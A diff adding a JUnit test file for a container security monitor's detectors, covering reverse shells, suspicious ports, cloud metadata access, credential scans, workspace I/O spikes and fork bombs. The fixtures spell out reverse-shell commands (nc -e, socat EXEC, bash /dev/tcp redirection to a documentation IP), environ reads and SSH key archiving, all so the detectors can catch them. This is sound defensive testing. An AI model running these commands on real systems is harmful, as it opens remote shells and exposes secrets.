@@ -1,0 +1,148 @@
+package coi.monitor;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import coi.config.Config;
+import java.time.Instant;
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+
+class DetectorsTest {
+    private static final Config.Monitoring DEFAULTS = new Config.Monitoring(true, true, true, 100, 250, 500, 200,
+            List.of(4444, 5555, 1337, 31337), 30);
+    private static final String REMOTE = "198.51.100.10";
+
+    @Test
+    void anIdleContainerRaisesNothing() {
+        assertThat(Detectors.detect(List.of(new Snapshots().idleContainer().build()), DEFAULTS)).isEmpty();
+    }
+
+    @Test
+    void aShellWithItsStdioOnATcpConnectionIsAReverseShellWhateverItsCommandLine() {
+        Snapshot s = new Snapshots().idleContainer()
+                .proc(400, "/usr/bin/bash", "/workspace", Snapshots.stdio("socket:[9100]"), "vim")
+                .conn("tcp", "10.147.83.75", 40512, REMOTE, 9001, "ESTABLISHED", 9100).build();
+        List<Threat> threats = Detectors.reverseShells(s);
+        assertThat(threats).singleElement().satisfies(t -> {
+            assertThat(t.level()).isEqualTo(Level.CRITICAL);
+            assertThat(t.category()).isEqualTo(Threat.REVERSE_SHELL);
+            assertThat(t.title()).contains("bash").contains(REMOTE + ":9001");
+            assertThat(t.evidence().process().pid()).isEqualTo(400);
+            assertThat(t.evidence().network().remote()).isEqualTo(REMOTE + ":9001");
+            assertThat(t.evidence().network().protocol()).isEqualTo("tcp");
+        });
+    }
+
+    @Test
+    void aPythonPtyShellOverIpv6IsCaught() {
+        Snapshot s = new Snapshots()
+                .proc(500, "/usr/bin/python3.11", "/workspace", Map.of(0, "socket:[9200]", 1, "socket:[9200]", 2, "socket:[9200]", 3, "socket:[9200]"),
+                        "python3", "-c", "import pty; pty.spawn('bash')")
+                .conn("tcp", "fd42::5", 40000, "2001:db8::10", 9001, "ESTABLISHED", 9200).build();
+        assertThat(Detectors.reverseShells(s)).singleElement().satisfies(t -> assertThat(t.title()).contains("python3.11"));
+    }
+
+    @Test
+    void aShellOnALoopbackOrUnixSocketIsNotAReverseShell() {
+        Snapshot s = new Snapshots()
+                .proc(400, "/usr/bin/bash", "/", Snapshots.stdio("socket:[9100]"), "bash")
+                .proc(401, "/usr/bin/sh", "/", Snapshots.stdio("socket:[9999]"), "sh")
+                .conn("tcp", "127.0.0.1", 40512, "127.0.0.1", 8080, "ESTABLISHED", 9100).build();
+        assertThat(Detectors.reverseShells(s)).isEmpty();
+    }
+
+    @Test
+    void netcatAndSocatWithExecOptionsAndDevTcpRedirectionsAreReverseShells() {
+        Snapshot s = new Snapshots()
+                .proc(10, "/usr/bin/nc.traditional", "/", Map.of(), "nc", "-e", "/bin/sh", REMOTE, "9001")
+                .proc(11, "/usr/bin/socat", "/", Map.of(), "socat", "TCP:" + REMOTE + ":9001", "EXEC:bash,pty,stderr")
+                .proc(12, "/usr/bin/bash", "/", Map.of(), "bash", "-c", "bash -i >& /dev/tcp/" + REMOTE + "/9001 0>&1")
+                .proc(13, "/usr/bin/nc.openbsd", "/", Map.of(), "nc", REMOTE, "80").build();
+        assertThat(Detectors.reverseShells(s)).extracting(t -> t.evidence().process().pid()).containsExactly(10, 11, 12);
+    }
+
+    @Test
+    void suspiciousPortsAndTheMetadataAddressAreHigh() {
+        Snapshot s = new Snapshots()
+                .proc(20, "/usr/bin/curl", "/workspace", Map.of(3, "socket:[1]"), "curl", "http://" + REMOTE + ":4444/")
+                .proc(21, "/usr/bin/curl", "/workspace", Map.of(3, "socket:[2]"), "curl", "http://169.254.169.254/")
+                .proc(22, "/usr/bin/python3", "/workspace", Map.of(3, "socket:[3]"), "python3", "-m", "http.server", "1337")
+                .proc(23, "/usr/bin/node", "/workspace", Map.of(3, "socket:[4]"), "node", "server.js")
+                .conn("tcp", "10.0.0.5", 50000, REMOTE, 4444, "SYN_SENT", 1)
+                .conn("tcp", "10.0.0.5", 50001, "169.254.169.254", 80, "ESTABLISHED", 2)
+                .conn("tcp", "0.0.0.0", 1337, "0.0.0.0", 0, "LISTEN", 3)
+                .conn("tcp", "0.0.0.0", 3000, "0.0.0.0", 0, "LISTEN", 4).build();
+        List<Threat> threats = Detectors.connections(s, DEFAULTS.suspiciousPorts());
+        assertThat(threats).allMatch(t -> t.level() == Level.HIGH);
+        assertThat(threats).extracting(t -> t.evidence().process().pid()).containsExactly(20, 21, 22);
+        assertThat(threats.get(1).title()).contains("metadata");
+    }
+
+    @Test
+    void environmentScansCredentialGrepsAndKeyFilesAreWarnings() {
+        Snapshot s = new Snapshots()
+                .proc(30, "/usr/bin/cat", "/workspace", Map.of(3, "/proc/1/environ"), "cat", "/proc/1/environ", "/proc/301/environ")
+                .proc(31, "/usr/bin/grep", "/workspace", Snapshots.stdio("pipe:[5]"), "grep", "-i", "key")
+                .proc(32, "/usr/bin/tar", "/home/code", Map.of(3, "/home/code/.ssh/id_ed25519"), "tar", "c", ".ssh")
+                .proc(33, "/usr/bin/ssh", "/home/code", Map.of(3, "/home/code/.ssh/id_ed25519"), "ssh", "git@example")
+                .proc(34, "/usr/bin/grep", "/workspace", Map.of(), "grep", "-rn", "TODO", "src")
+                .proc(35, "/usr/bin/cat", "/", Map.of(3, "/proc/35/environ"), "cat", "/proc/self/environ").build();
+        List<Threat> threats = Detectors.credentialScans(s);
+        assertThat(threats).allMatch(t -> t.level() == Level.WARNING && t.category().equals(Threat.CREDENTIALS));
+        assertThat(threats).extracting(t -> t.evidence().process().pid()).containsExactly(30, 31, 32);
+    }
+
+    @Test
+    void workspaceReadsAboveTheThresholdWithinTheWindowAreHighCountingReapedChildrenThroughTheParent() {
+        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
+        long mb = 1024 * 1024;
+        Snapshot before = new Snapshots().at(t0)
+                .proc(40, 1000, "/usr/bin/bash", "/workspace", Map.of(), 1 * mb, 0, "bash")
+                .proc(41, 1000, "/usr/lib/systemd/systemd-journald", "/", Map.of(), 900 * mb, 0, "journald").build();
+        // cat read 200 MB and was reaped by bash between the two looks; journald outside the workspace read a lot too
+        Snapshot after = new Snapshots().at(t0.plusMillis(250))
+                .proc(40, 1000, "/usr/bin/bash", "/workspace", Map.of(), 201 * mb, 0, "bash")
+                .proc(41, 1000, "/usr/lib/systemd/systemd-journald", "/", Map.of(), 1900 * mb, 0, "journald").build();
+        List<Threat> threats = Detectors.workspaceIo(List.of(before, after), 100, 250);
+        assertThat(threats).singleElement().satisfies(t -> {
+            assertThat(t.level()).isEqualTo(Level.HIGH);
+            assertThat(t.evidence().filesystem().bytes()).isEqualTo(200 * mb);
+            assertThat(t.title()).startsWith("large workspace read: 200 MB");
+        });
+        assertThat(Detectors.workspaceIo(List.of(before, after), 300, 250)).isEmpty();
+    }
+
+    @Test
+    void aNewProcessCountsWholeAndWritesHaveTheirOwnThreshold() {
+        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
+        long mb = 1024 * 1024;
+        Snapshot before = new Snapshots().at(t0).proc(40, "/usr/bin/bash", "/workspace", Map.of(), "bash").build();
+        Snapshot after = new Snapshots().at(t0.plusSeconds(1)).proc(40, "/usr/bin/bash", "/workspace", Map.of(), "bash")
+                .proc(50, 1000, "/usr/bin/dd", "/", Map.of(1, "/workspace/out.bin"), 0, 300 * mb, "dd", "of=/workspace/out.bin").build();
+        assertThat(Detectors.workspaceIo(List.of(before, after), 100, 250)).singleElement()
+                .satisfies(t -> assertThat(t.title()).startsWith("large workspace write: 300 MB"));
+    }
+
+    @Test
+    void aForkBombIsCriticalByCountOrBySpawnRate() {
+        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
+        Snapshots many = new Snapshots().at(t0.plusSeconds(1));
+        for (int pid = 1000; pid < 1600; pid++) many.proc(pid, "/usr/bin/bash", "/workspace", Map.of(), "bash");
+        Snapshot one = new Snapshots().at(t0).proc(1, "/sbin/init", "/", Map.of(), "init").build();
+        assertThat(Detectors.processSpike(List.of(one, many.build()), 500, 200)).singleElement()
+                .satisfies(t -> assertThat(t.title()).isEqualTo("process count 600 above 500"));
+        assertThat(Detectors.processSpike(List.of(one, many.build()), 1000, 200)).singleElement()
+                .satisfies(t -> assertThat(t.title()).isEqualTo("process spawn rate 600/s above 200/s"));
+        assertThat(Detectors.processSpike(List.of(one, many.build()), 1000, 1000)).isEmpty();
+    }
+
+    @Test
+    void aFewProcessesStartedBetweenTwoQuickLooksAreNoSpawnRateSpike() {
+        Instant t0 = Instant.parse("2026-12-04T10:00:00Z");
+        Snapshots next = new Snapshots().at(t0.plusMillis(100));
+        for (int pid = 10; pid < 60; pid++) next.proc(pid, "/usr/bin/cc1", "/workspace", Map.of(), "cc1");
+        Snapshot first = new Snapshots().at(t0).proc(1, "/sbin/init", "/", Map.of(), "init").build();
+        assertThat(Detectors.processSpike(List.of(first, next.build()), 500, 200)).isEmpty();
+    }
+}
